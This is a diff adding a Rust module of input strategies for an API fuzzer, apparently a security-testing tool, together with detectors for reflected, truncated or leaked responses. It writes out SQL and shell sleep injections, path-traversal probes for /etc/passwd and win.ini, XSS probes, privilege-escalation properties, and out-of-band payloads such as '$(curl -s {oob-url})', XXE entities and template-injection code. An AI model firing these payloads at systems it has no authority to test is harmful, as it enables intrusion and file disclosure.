@@ -0,0 +1,432 @@
+use std::{str::FromStr, time::Duration};
+
+use anyhow::Result;
+use arbitrary::{Arbitrary, Unstructured};
+use serde_json::{json, Value};
+
+use crate::faker;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Strategy {
+    /// Arbitrary strings seeded from random characters
+    Random,
+    /// Multi-byte, combining and normalization edge cases
+    Unicode,
+    /// Null bytes and control characters between two unique markers
+    Control,
+    /// HTML and JSON syntax between two unique markers
+    Reflection,
+    /// Plausible names, addresses, emails and sentences that pass validation
+    Realistic,
+    /// Random strings in bodies sent with unusual chunked encoding,
+    /// conflicting Content-Length headers or trailers
+    Framing,
+    /// Random strings in bodies with a value nested in thousands of arrays or
+    /// objects, which parsers recursing into every level may not cope with
+    Nesting,
+    /// SQL, NoSQL and shell sleep primitives that delay the response when the
+    /// server executes them
+    Timing,
+    /// Random strings in bodies that clearly violate their schema, a required
+    /// property is missing or a value has the wrong type
+    Invalid,
+    /// Plausible values in bodies with extra properties that only the server
+    /// should set, such as `role` or `isAdmin`
+    MassAssignment,
+    /// Dot segments, encoded separators and absolute paths in path
+    /// parameters, which are sent unencoded, random strings elsewhere
+    Traversal,
+    /// Shell commands, XML entities, code and markup that make the server
+    /// fetch a url of the out-of-band interaction server, random strings in
+    /// path parameters
+    Oob,
+    /// Random strings in JSON bodies that repeat a property with a
+    /// conflicting value, parsers may keep either of them
+    DuplicateKeys,
+    /// Random strings in bodies sent with `Content-Encoding: gzip` as valid,
+    /// truncated or corrupted streams
+    Gzip,
+}
+
+impl FromStr for Strategy {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s.to_lowercase().as_str() {
+            "random" => Ok(Strategy::Random),
+            "unicode" => Ok(Strategy::Unicode),
+            "control" => Ok(Strategy::Control),
+            "reflection" => Ok(Strategy::Reflection),
+            "realistic" => Ok(Strategy::Realistic),
+            "framing" => Ok(Strategy::Framing),
+            "nesting" => Ok(Strategy::Nesting),
+            "timing" => Ok(Strategy::Timing),
+            "invalid" => Ok(Strategy::Invalid),
+            "mass-assignment" => Ok(Strategy::MassAssignment),
+            "traversal" => Ok(Strategy::Traversal),
+            "oob" => Ok(Strategy::Oob),
+            "duplicate-keys" => Ok(Strategy::DuplicateKeys),
+            "gzip" => Ok(Strategy::Gzip),
+            _ => Err(format!("unknown strategy `{}`", s)),
+        }
+    }
+}
+
+impl Strategy {
+    pub fn generate_string(&self, gen: &mut Unstructured) -> Result<String> {
+        match self {
+            Strategy::Random
+            | Strategy::Framing
+            | Strategy::Nesting
+            | Strategy::Invalid
+            | Strategy::Traversal
+            | Strategy::DuplicateKeys
+            | Strategy::Gzip => Ok(String::arbitrary(gen)?),
+            Strategy::Unicode => unicode_string(gen),
+            Strategy::Control => control_string(gen),
+            Strategy::Reflection => reflection_string(gen),
+            Strategy::Realistic | Strategy::MassAssignment => faker::value("", "", gen),
+            Strategy::Timing => timing_string(gen),
+            Strategy::Oob => oob_string(gen),
+        }
+    }
+
+    /// String for the property or parameter of the name and the format of its
+    /// schema, which only the realistic and mass-assignment strategies take
+    /// into account
+    pub fn generate_named(
+        &self,
+        name: &str,
+        format: &str,
+        gen: &mut Unstructured,
+    ) -> Result<String> {
+        match self {
+            Strategy::Realistic | Strategy::MassAssignment => faker::value(name, format, gen),
+            strategy => strategy.generate_string(gen),
+        }
+    }
+
+    /// Strategy used for header values, which may not contain control characters
+    pub fn for_header(self) -> Strategy {
+        match self {
+            Strategy::Control => Strategy::Random,
+            strategy => strategy,
+        }
+    }
+
+    /// Strategy used for path parameters, which may not contain the slashes
+    /// of a url
+    pub fn for_path(self) -> Strategy {
+        match self {
+            Strategy::Oob => Strategy::Random,
+            strategy => strategy,
+        }
+    }
+}
+
+// Sequences that commonly break string handling: multi-byte characters of every
+// width, zero-width and bidi control characters, noncharacters next to the
+// surrogate range, percent-encoded overlong and surrogate UTF-8 byte sequences
+// (which cannot be represented in a Rust string directly) and characters that
+// change under NFC/NFKC normalization or case folding.
+const UNICODE_FRAGMENTS: &[&str] = &[
+    "\u{e9}",
+    "\u{20ac}",
+    "\u{1d518}",
+    "\u{1f600}",
+    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
+    "\u{1f1f8}\u{1f1f0}",
+    "\u{feff}",
+    "\u{200b}",
+    "\u{200e}",
+    "\u{202e}",
+    "\u{2028}",
+    "\u{d7ff}",
+    "\u{e000}",
+    "\u{fffd}",
+    "\u{fffe}",
+    "\u{ffff}",
+    "\u{10ffff}",
+    "%C0%AF",
+    "%C0%80",
+    "%E0%80%AF",
+    "%F0%80%80%AF",
+    "%ED%A0%80",
+    "%ED%BF%BF",
+    "e\u{301}",
+    "\u{212b}",
+    "\u{212a}",
+    "\u{fb01}",
+    "\u{130}",
+    "\u{131}",
+    "\u{df}",
+    "\u{ff53}\u{ff43}\u{ff52}\u{ff49}\u{ff50}\u{ff54}",
+    "\u{2126}",
+    "\u{1e9e}",
+];
+
+fn unicode_string(gen: &mut Unstructured) -> Result<String> {
+    let mut string = String::new();
+    for _ in 0..gen.int_in_range(1..=8)? {
+        match gen.int_in_range(0..=3)? {
+            0 => string.push_str(gen.choose(UNICODE_FRAGMENTS)?),
+            1 => {
+                // Base letter stacked with combining diacritical marks
+                string.push(gen.int_in_range(b'a'..=b'z')? as char);
+                for _ in 0..gen.int_in_range(1..=16)? {
+                    string.push(
+                        char::from_u32(gen.int_in_range(0x300..=0x36f)?).unwrap_or('\u{301}'),
+                    );
+                }
+            }
+            2 => {
+                // Random character from the supplementary planes (4 byte UTF-8)
+                let code_point = gen.int_in_range(0x10000..=0x10ffff)?;
+                string.push(char::from_u32(code_point).unwrap_or('\u{10000}'));
+            }
+            _ => string.push(char::arbitrary(gen)?),
+        }
+    }
+    Ok(string)
+}
+
+const CONTROL_SEQUENCES: &[&str] = &[
+    "\0", "%00", "\r\n", "%0d%0a", "\n", "\r", "\t", "\x07", "\x08", "\x0b", "\x0c", "\x1b",
+    "\x7f", "\u{85}", "%1b", "%7f",
+];
+
+fn marker(gen: &mut Unstructured) -> Result<String> {
+    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
+    (0..8).map(|_| Ok(*gen.choose(ALPHABET)? as char)).collect()
+}
+
+fn is_marker(value: &str) -> bool {
+    value.len() == 8 && value.bytes().all(|b| b.is_ascii_alphanumeric())
+}
+
+fn control_string(gen: &mut Unstructured) -> Result<String> {
+    Ok(format!(
+        "{}{}{}",
+        marker(gen)?,
+        gen.choose(CONTROL_SEQUENCES)?,
+        marker(gen)?
+    ))
+}
+
+/// Looks for values generated by the control strategy whose part before the
+/// control sequence is reflected in the body while the part after it is not,
+/// which means the server truncated the value at the control character.
+pub fn find_truncation<'a>(
+    values: impl IntoIterator<Item = &'a str>,
+    body: &str,
+) -> Option<String> {
+    values.into_iter().find_map(|value| {
+        CONTROL_SEQUENCES.iter().find_map(|sequence| {
+            let (head, tail) = value.split_at(value.find(sequence)?);
+            let tail = &tail[sequence.len()..];
+            if !is_marker(head) || !is_marker(tail) {
+                return None;
+            }
+            match body.contains(head) && !body.contains(tail) {
+                true => Some(format!("value {:?} was truncated at {:?}", value, sequence)),
+                false => None,
+            }
+        })
+    })
+}
+
+// Syntax that breaks out of HTML elements, attributes and JSON strings when it
+// is not escaped
+const REFLECTION_PROBES: &[&str] = &[
+    "<b>",
+    "<script>",
+    "</script>",
+    "<svg/onload=1>",
+    "\"><i>",
+    "'><i>",
+    "\"",
+    "'",
+    "\\\"",
+    "\"}",
+    "\",\"x\":\"",
+];
+
+fn reflection_string(gen: &mut Unstructured) -> Result<String> {
+    Ok(format!(
+        "{}{}{}",
+        marker(gen)?,
+        gen.choose(REFLECTION_PROBES)?,
+        marker(gen)?
+    ))
+}
+
+/// Looks for values generated by the reflection strategy that are reflected
+/// verbatim in a context where their syntax is interpreted, which makes the
+/// parameter a potential XSS or injection sink. HTML and XML bodies are
+/// affected by markup and quotes, JSON bodies by unescaped quotes.
+pub fn find_reflection<'a>(
+    values: impl IntoIterator<Item = &'a str>,
+    body: &str,
+    content_type: &str,
+) -> Option<String> {
+    let content_type = content_type.to_lowercase();
+    let special: &[char] = if content_type.contains("html") || content_type.contains("xml") {
+        &['<', '>', '"', '\'']
+    } else if content_type.contains("json") {
+        &['"']
+    } else {
+        return None;
+    };
+    values.into_iter().find_map(|value| {
+        let probe = REFLECTION_PROBES.iter().find(|probe| {
+            value.len() == probe.len() + 16
+                && value.find(*probe) == Some(8)
+                && is_marker(&value[..8])
+                && is_marker(&value[8 + probe.len()..])
+        })?;
+        match probe.contains(special) && body.contains(value) {
+            true => Some(format!(
+                "value {:?} is reflected unescaped in {} response",
+                value, content_type
+            )),
+            false => None,
+        }
+    })
+}
+
+// Dot segments with plain, percent-encoded, doubly encoded, overlong UTF-8 and
+// backslash separators, and absolute paths of files that exist on most Unix
+// and Windows servers or Java web applications
+const TRAVERSAL_PROBES: &[&str] = &[
+    "../../../../../../../../etc/passwd",
+    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "..%252f..%252f..%252f..%252f..%252fetc%252fpasswd",
+    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+    "....//....//....//....//....//etc/passwd",
+    "..;/..;/..;/..;/..;/etc/passwd",
+    "../../../../../../../../proc/self/environ",
+    "/etc/passwd",
+    "%2fetc%2fpasswd",
+    "file:///etc/passwd",
+    "..\\..\\..\\..\\..\\..\\windows\\win.ini",
+    "..%5c..%5c..%5c..%5c..%5c..%5cwindows%5cwin.ini",
+    "C:\\Windows\\win.ini",
+    "../../../../WEB-INF/web.xml",
+];
+
+// Content of the files the traversal probes point to
+const FILE_SIGNATURES: &[(&str, &str)] = &[
+    ("root:x:0:0:", "/etc/passwd"),
+    ("root:*:0:0:", "/etc/passwd"),
+    ("daemon:x:1:1:", "/etc/passwd"),
+    ("; for 16-bit app support", "win.ini"),
+    ("[fonts]", "win.ini"),
+    ("<web-app", "WEB-INF/web.xml"),
+    ("PATH=/", "/proc/self/environ"),
+];
+
+/// Path parameter of the traversal strategy
+pub fn traversal_string(gen: &mut Unstructured) -> Result<String> {
+    Ok(gen.choose(TRAVERSAL_PROBES)?.to_string())
+}
+
+/// Whether the value is one generated by the traversal strategy
+pub fn is_traversal(value: &str) -> bool {
+    TRAVERSAL_PROBES.contains(&value)
+}
+
+/// File whose content the body shows, if any
+pub fn find_file_content(body: &str) -> Option<&'static str> {
+    FILE_SIGNATURES
+        .iter()
+        .find(|(signature, _)| body.contains(signature))
+        .map(|(_, file)| *file)
+}
+
+/// Delay of the sleep primitives of the timing strategy
+pub const SLEEP: Duration = Duration::from_secs(5);
+
+// Sleep primitives of MySQL, PostgreSQL, SQL Server, Oracle, SQLite, MongoDB
+// and shells, `{}` is replaced by the seconds to sleep
+const SLEEP_PROBES: &[&str] = &[
+    "' OR SLEEP({})-- -",
+    "1 AND SLEEP({})",
+    "'; SELECT pg_sleep({})--",
+    "'||pg_sleep({})||'",
+    "'; WAITFOR DELAY '0:0:{}'--",
+    "1; WAITFOR DELAY '0:0:{}'--",
+    "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',{})--",
+    "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({}00000000/2))))--",
+    "'; sleep({}000); var x='",
+    "$(sleep {})",
+    "`sleep {}`",
+    "; sleep {} #",
+    "| sleep {}",
+];
+
+fn sleep_probe(probe: &str, seconds: u64) -> String {
+    probe.replace("{}", &seconds.to_string())
+}
+
+fn timing_string(gen: &mut Unstructured) -> Result<String> {
+    Ok(sleep_probe(gen.choose(SLEEP_PROBES)?, SLEEP.as_secs()))
+}
+
+/// The value with the sleep primitives of the timing strategy in it turned
+/// into ones that do not sleep, nothing when it has none of them
+pub fn without_delay(value: &str) -> Option<String> {
+    let mut changed = None;
+    for probe in SLEEP_PROBES {
+        let delayed = sleep_probe(probe, SLEEP.as_secs());
+        let current = changed.as_deref().unwrap_or(value);
+        if current.contains(&delayed) {
+            changed = Some(current.replace(&delayed, &sleep_probe(probe, 0)));
+        }
+    }
+    changed
+}
+
+/// Properties that only the server should set, with the values a client
+/// escalating its privileges would give them
+pub fn privileged_properties() -> Vec<(&'static str, Value)> {
+    vec![
+        ("role", json!("admin")),
+        ("roles", json!(["admin"])),
+        ("isAdmin", json!(true)),
+        ("is_admin", json!(true)),
+        ("admin", json!(true)),
+        ("verified", json!(true)),
+        ("permissions", json!(["*"])),
+        ("price", json!(0.01)),
+        ("balance", json!(1000000)),
+        ("discount", json!(100)),
+    ]
+}
+
+/// Stands for the url of the interaction server in the values of the oob
+/// strategy, each one is replaced by a url of its own before the request is
+/// sent
+pub const OOB_PLACEHOLDER: &str = "{oob-url}";
+
+// Ways to make a server fetch a url when it executes, parses or renders the
+// value: shell commands of Unix and Windows, external XML entities, code of
+// scripting languages and template engines, markup and the plain url
+const OOB_PROBES: &[&str] = &[
+    "$(curl -s {oob-url})",
+    "`wget -q -O- {oob-url}`",
+    ";curl -s {oob-url};",
+    "| curl -s {oob-url}",
+    "&& curl -s {oob-url}",
+    "& powershell -c iwr {oob-url} &",
+    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"{oob-url}\">]><r>&x;</r>",
+    "__import__('urllib.request').urlopen('{oob-url}')",
+    "';require('http').get('{oob-url}');'",
+    "${T(java.net.URL).new('{oob-url}').openStream().read()}",
+    "<img src=\"{oob-url}\">",
+    "{oob-url}",
+];
+
+fn oob_string(gen: &mut Unstructured) -> Result<String> {
+    Ok(gen.choose(OOB_PROBES)?.to_string())
+}